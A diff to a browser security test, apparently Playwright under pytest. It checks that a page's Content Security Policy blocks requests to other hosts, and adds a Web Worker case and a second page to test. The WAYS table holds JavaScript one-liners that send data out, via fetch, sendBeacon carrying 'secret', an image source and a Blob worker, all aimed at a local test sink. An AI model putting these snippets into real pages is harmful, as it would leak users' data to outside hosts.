@@ -14,6 +14,7 @@ if TYPE_CHECKING:
 pytestmark = pytest.mark.slow
 
 WAYS = {
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${out}').catch(() => null)`])))",
     "fetch": "fetch(out).catch(() => null)",
     "beacon": "navigator.sendBeacon(out, 'secret')",
     "image": "new Image().src = out",
@@ -39,20 +40,24 @@ ATTEMPT = """out => {
 }"""
 
 
-def _reached(browser: Browser, served: Served, sink: Sink, *, without_policy: bool) -> set[str]:
+PAGES = pytest.mark.parametrize("address", ["", "playground/"], ids=["home", "playground"])
+
+
+def _reached(address: str, browser: Browser, served: Served, sink: Sink, *, without_policy: bool) -> set[str]:
     """Return the ways by which a page reached another host."""
     with browser.new_context(bypass_csp=without_policy) as context:
         page = context.new_page()
-        page.goto(served.below)
+        page.goto(served.below + address)
         for way, attempt in WAYS.items():
             page.evaluate(ATTEMPT % attempt, f"{sink.origin}/{way}")
         page.wait_for_timeout(1500)
     return sink.asked
 
 
-def test_nothing_leaves_a_page(browser: Browser, served: Served, sink: Sink) -> None:
-    assert _reached(browser, served, sink, without_policy=False) == set()
+@PAGES
+def test_nothing_leaves_a_page(address: str, browser: Browser, served: Served, sink: Sink) -> None:
+    assert _reached(address, browser, served, sink, without_policy=False) == set()
 
 
 def test_without_the_policy_every_way_is_open(browser: Browser, served: Served, sink: Sink) -> None:
-    assert _reached(browser, served, sink, without_policy=True) == set(WAYS)
+    assert _reached("", browser, served, sink, without_policy=True) == set(WAYS)
